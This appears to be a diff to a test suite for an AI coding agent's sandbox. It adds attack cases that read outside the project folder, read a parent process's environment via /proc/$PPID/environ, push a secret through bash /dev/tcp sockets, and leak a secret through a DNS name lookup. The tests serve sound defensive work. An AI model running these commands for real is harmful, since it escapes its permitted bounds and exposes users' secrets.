@@ -41,6 +41,7 @@ const outside = [
         links: { 'project/up': '../outside' },
       },
     ],
+    ['listing a folder outside', ['Glob', { pattern: '*.txt', path: '../outside' }]],
     ['writing a file above the folder', write('../outside/new.txt')],
     [
       'writing beside the project under a similar name',
@@ -59,6 +60,14 @@ const outside = [
     ],
   ]),
   ...commandAttacks({ source: 'opencode#44728', defense: 'files outside', outcome: 'asked' }, [
+    ['`ls` of a folder outside', 'ls ../outside'],
+    ['`find` of names outside', 'find .. -name "*.txt"'],
+    ['`du` of a folder outside', 'du -a ../outside'],
+    [
+      "`cat` of a process's environment",
+      'cat /proc/$PPID/environ',
+      { undefended: 'What it shows depends on the machine.' },
+    ],
     ['`cat` of a file outside', 'cat ../outside/note.txt'],
     ['`head` of a file outside', 'head -1 {{outside}}/note.txt'],
     ['`cat` of a link', 'cat link', { links: { 'project/link': '{{outside}}/note.txt' } }],
@@ -113,6 +122,11 @@ const outside = [
     [
       ['a redirect to a socket of bash', 'echo secret > /dev/tcp/127.0.0.1/{{port}}'],
       ['reading a socket of bash', 'read -t 1 line < /dev/tcp/127.0.0.1/{{port}}'],
+      [
+        'a name that carries a secret to a name server',
+        'getent hosts secret.example.invalid',
+        { undefended: 'No test asks another machine.' },
+      ],
       ['a descriptor for a socket of bash', 'exec 3<> /dev/tcp/127.0.0.1/{{port}}'],
     ],
   ),
